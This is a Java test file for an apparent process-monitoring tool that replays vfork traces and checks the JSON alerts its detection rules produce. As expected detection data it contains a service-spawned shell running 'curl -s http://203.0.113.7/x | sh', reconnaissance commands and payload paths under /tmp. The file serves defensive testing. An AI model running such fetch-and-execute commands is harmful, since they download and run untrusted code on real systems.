package dev.forkwatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.forkwatch.alert.Hostname;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** End to end: replay the sample traces in samples/traces and check the JSON alerts. */
class ReplayCommandTest {
    static final ObjectMapper JSON = new ObjectMapper();

    static List<JsonNode> alerts(String out) throws Exception {
        List<JsonNode> list = new ArrayList<>();
        for (String line : out.split("\n")) {
            if (!line.isBlank()) {
                list.add(JSON.readTree(line));
            }
        }
        return list;
    }

    @Test
    void stalledChildSample() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("stalled-child.jsonl"));
        assertThat(r.code()).as(r.err()).isZero();
        List<JsonNode> a = alerts(r.out());
        assertThat(a).hasSize(1);
        JsonNode n = a.get(0);
        assertThat(n.get("rule").asText()).isEqualTo("Vfork child stalled");
        assertThat(n.get("priority").asText()).isEqualTo("Warning");
        assertThat(n.get("time").asText()).isEqualTo("2025-11-28T03:20:05.000000000Z");
        assertThat(n.get("source").asText()).isEqualTo("forkwatch");
        assertThat(n.get("hostname").asText()).isEqualTo(Hostname.local());
        assertThat(UUID.fromString(n.get("uuid").asText())).isNotNull();
        assertThat(n.get("tags")).extracting(JsonNode::asText).contains("vfork", "T1499");
        JsonNode f = n.get("output_fields");
        assertThat(f.get("proc.pid").asInt()).isEqualTo(5101);
        assertThat(f.get("proc.ppid").asInt()).isEqualTo(5100);
        assertThat(f.get("proc.pname").asText()).isEqualTo("java");
        assertThat(f.get("user.uid").asInt()).isEqualTo(1000);
        assertThat(f.get("vfork.via").asText()).isEqualTo("clone3");
        assertThat(f.get("vfork.elapsed_ns").asLong()).isEqualTo(5_000_000_000L);
        assertThat(n.get("output").asText()).contains("5101").contains("java");
        assertThat(r.err()).contains("replayed 5 events").contains("1 alert(s)");
    }

    @Test
    void failedExecSample() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("failed-exec.jsonl"));
        assertThat(r.code()).isZero();
        List<JsonNode> a = alerts(r.out());
        assertThat(a).extracting(n -> n.get("rule").asText()).containsExactly("Vfork child exited without exec");
        assertThat(a.get(0).get("priority").asText()).isEqualTo("Notice");
        assertThat(a.get(0).get("output_fields").get("proc.pid").asInt()).isEqualTo(6201);
        assertThat(a.get(0).get("output_fields").get("proc.exit_code").asInt()).isEqualTo(127);
        assertThat(a.get(0).get("time").asText()).isEqualTo("2025-11-28T03:20:00.000200000Z");
    }

    @Test
    void stormSample() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("storm.jsonl"));
        List<JsonNode> a = alerts(r.out());
        assertThat(a).hasSize(1);
        assertThat(a.get(0).get("rule").asText()).isEqualTo("Vfork storm");
        assertThat(a.get(0).get("output_fields").get("proc.pid").asInt()).isEqualTo(6999); // the parent
        assertThat(a.get(0).get("output_fields").get("vfork.count").asInt()).isEqualTo(101);
    }

    @Test
    void healthySampleRaisesNothing() {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("healthy-build.jsonl"));
        assertThat(r.code()).isZero();
        assertThat(r.out()).isEmpty();
        assertThat(r.err()).contains("replayed 80 events").contains("0 alert(s)");
    }

    @Test
    void mixedSampleInTextForm() {
        Cli.Result r = Cli.run("replay", Cli.sample("mixed.jsonl"));
        assertThat(r.code()).isZero();
        assertThat(r.out().split("\n")).containsExactly(
                "2025-11-28T03:20:00.000500000Z Warning Vfork child exec from writable directory: vfork child 8101 of nginx (pid 8100) exec'd /tmp/.x/payload from a world-writable directory (cmdline=<NA> container=<NA>)",
                "2025-11-28T03:20:00.300500000Z Notice Vfork child exited without exec: vfork child 8301 of sshd (pid 8300) exited with code 126 without exec after 500.0us (cmdline=<NA> container=<NA>)",
                "2025-11-28T03:20:01.700100000Z Notice Vfork parent blocked: cron (pid 8200) was blocked 1.500s in vfork until child 8201 exec'd or exited (cmdline=<NA> container=<NA>)",
                "2025-11-28T03:20:05.400000000Z Warning Vfork child stalled: vfork child 8401 of java (pid 8400, via clone3) neither exec'd nor exited within 5s; the parent is blocked (cmdline=<NA> container=<NA>)");
    }

    @Test
    void contextSampleShowsTheNewRules() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("context.jsonl"));
        assertThat(r.code()).as(r.err()).isZero();
        List<JsonNode> a = alerts(r.out());
        assertThat(a).extracting(n -> n.get("rule").asText() + " " + n.get("output_fields").get("proc.pid").asInt()).containsExactly(
                "Shell spawned by a service 7101", "Vfork child exec'd from memory 7301",
                "Vfork child exec from writable directory 7401");
        JsonNode f = a.get(0).get("output_fields");
        assertThat(f.get("proc.cmdline").asText()).isEqualTo("/bin/sh -c id; uname -a");
        assertThat(f.get("proc.pexepath").asText()).isEqualTo("/usr/sbin/nginx");
        assertThat(f.get("container.id").asText()).isEqualTo("3f4a5b6c7d8e");
        assertThat(f.get("user.name").asText()).isEqualTo("www-data");
        assertThat(a.get(1).get("priority").asText()).isEqualTo("Critical");
        assertThat(a.get(1).get("tags")).extracting(JsonNode::asText).contains("T1620");
        assertThat(a.get(2).get("output").asText()).contains("writable").contains("/tmp/.cache/updater");
    }

    @Test
    void javaServiceConfigFromTheDocs() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", "--config",
                Cli.root().resolve("samples/config/java-service.yaml").toString(), Cli.sample("context.jsonl"));
        assertThat(r.code()).as(r.err()).isZero();
        List<JsonNode> shells = alerts(r.out()).stream().filter(n -> n.get("rule").asText().equals("Shell spawned by a service")).toList();
        assertThat(shells).hasSize(2);
        JsonNode f = shells.get(1).get("output_fields");
        assertThat(f.get("proc.pid").asInt()).isEqualTo(7201);
        assertThat(f.get("vfork.exec_index").asInt()).isEqualTo(2);
        assertThat(f.get("proc.cmdline").asText()).isEqualTo("/bin/sh -c curl -s http://203.0.113.7/x | sh");
        assertThat(f.get("proc.pexepath").asText()).isEqualTo("/usr/lib/jvm/java-17-openjdk-amd64/bin/java");
    }

    @Test
    void severalFilesReplayAsOneStream() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", Cli.sample("failed-exec.jsonl"), Cli.sample("storm.jsonl"));
        // storm.jsonl starts at the same epoch time: its events are late relative to the first file's clock
        // record, so they are counted as late but still evaluated.
        assertThat(r.code()).isZero();
        assertThat(alerts(r.out())).extracting(n -> n.get("rule").asText()).contains("Vfork child exited without exec");
        assertThat(r.err()).contains("replayed 483 events from 2 file(s)");
    }

    @Test
    void configChangesThreshold() throws Exception {
        java.nio.file.Path cfg = java.nio.file.Files.createTempFile("fw", ".yaml");
        try {
            java.nio.file.Files.writeString(cfg, "params:\n  vfork:\n    stall_threshold: 2s\nengine:\n  hostname: web-7\n");
            Cli.Result r = Cli.run("replay", "--output", "json", "--config", cfg.toString(), Cli.sample("stalled-child.jsonl"));
            assertThat(r.code()).as(r.err()).isZero();
            assertThat(alerts(r.out()).get(0).get("time").asText()).isEqualTo("2025-11-28T03:20:02.000000000Z");
            assertThat(alerts(r.out()).get(0).get("hostname").asText()).isEqualTo("web-7");
        } finally {
            java.nio.file.Files.deleteIfExists(cfg);
        }
    }

    @Test
    void customRuleFromTheDocsRunsBesideTheDefaultPack() throws Exception {
        Cli.Result r = Cli.run("replay", "--output", "json", "--rules", Cli.root().resolve("samples/rules").toString(),
                "--rules", Cli.root().resolve("rules").toString(), Cli.sample("shell.jsonl"));
        assertThat(r.code()).as(r.err()).isZero();
        List<JsonNode> a = alerts(r.out());
        assertThat(a).extracting(n -> n.get("rule").asText()).containsExactly("Vfork child execs a shell");
        assertThat(a.get(0).get("output").asText()).isEqualTo("php-fpm (pid 9100) spawned a shell /bin/sh");
        assertThat(a.get(0).get("tags")).extracting(JsonNode::asText).containsExactly("process", "vfork", "T1059.004");
        assertThat(a.get(0).get("priority").asText()).isEqualTo("Notice");
    }

    @Test
    void emptyTraceWorks() throws Exception {
        java.nio.file.Path f = java.nio.file.Files.createTempFile("fw", ".jsonl");
        try {
            Cli.Result r = Cli.run("replay", f.toString());
            assertThat(r.code()).isZero();
            assertThat(r.out()).isEmpty();
            assertThat(r.err()).contains("replayed 0 events");
        } finally {
            java.nio.file.Files.deleteIfExists(f);
        }
    }

    @Test
    void aRuleThatThrowsNeitherStopsTheReplayNorHidesTheEvent(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp)
            throws Exception {
        // Throws for a "java" parent (any comm shorter than 20 characters would): the sample's; check's smoke
        // trace has no such parent, so the pack is accepted and fails only on this data.
        java.nio.file.Path broken = java.nio.file.Files.writeString(tmp.resolve("broken.drl"), """
                rule "Long comm"
                    @priority("Notice")
                    @tags("test")
                    @description("breaks on short names")
                when
                    $v : Vfork(comm == "java", comm.substring(20) == "x")
                then
                end
                """);
        Cli.Result r = Cli.run("replay", "--output", "json", "--rules", Cli.root().resolve("rules").toString(),
                "--rules", broken.toString(), Cli.sample("stalled-child.jsonl"));
        assertThat(r.code()).as(r.err()).isZero();
        List<JsonNode> a = alerts(r.out());
        assertThat(a).extracting(n -> n.get("rule").asText()).containsExactly("Rule failed", "Vfork child stalled");
        JsonNode failed = a.get(0);
        assertThat(failed.get("priority").asText()).isEqualTo("Critical");
        assertThat(failed.get("output_fields").get("rule.location").asText()).isEqualTo(broken + ":1");
        assertThat(failed.get("output").asText()).contains("Long comm", "StringIndexOutOfBoundsException");
        assertThat(a.get(1).get("output_fields").get("proc.pid").asInt()).isEqualTo(5101); // the same vfork
        assertThat(r.out() + r.err()).doesNotContain("\tat ", "Exception in");
        assertThat(r.err()).contains("2 alert(s)").contains("1 rule(s) disabled: \"Long comm\" (failed)");
    }

    @Test
    void twoReplaysInTwoProcessesPrintIdenticalBytes(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp)
            throws Exception {
        byte[][] outs = new byte[2][];
        for (int i = 0; i < 2; i++) {
            java.nio.file.Path out = tmp.resolve("out-" + i);
            Process p = new ProcessBuilder(java.nio.file.Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                    "-cp", System.getProperty("java.class.path"), Main.class.getName(),
                    "replay", "--output", "json", Cli.sample("mixed.jsonl"), Cli.sample("storm.jsonl"))
                    .redirectOutput(out.toFile()).redirectError(ProcessBuilder.Redirect.DISCARD).start();
            try {
                assertThat(p.waitFor(120, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
            } finally {
                p.destroyForcibly();
            }
            assertThat(p.exitValue()).isZero();
            outs[i] = java.nio.file.Files.readAllBytes(out);
        }
        assertThat(alerts(new String(outs[0], java.nio.charset.StandardCharsets.UTF_8))).hasSizeGreaterThanOrEqualTo(5);
        assertThat(outs[1]).isEqualTo(outs[0]);
    }
}
